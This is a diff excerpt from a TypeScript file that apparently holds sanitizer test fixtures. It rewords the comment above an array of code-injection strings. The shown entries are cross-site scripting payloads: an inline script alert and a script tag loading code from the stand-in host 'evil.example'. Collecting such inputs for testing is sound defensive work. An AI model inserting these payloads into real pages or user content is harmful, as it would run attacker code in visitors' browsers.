@@ -1,4 +1,4 @@
-/** Ways to get code into a page, as markdown, HTML and what lies between; some only wake when parsed twice. */
+/** Ways to inject code into a page, as Markdown, HTML or both. Some take effect only when parsed twice. */
 export const hostile: string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
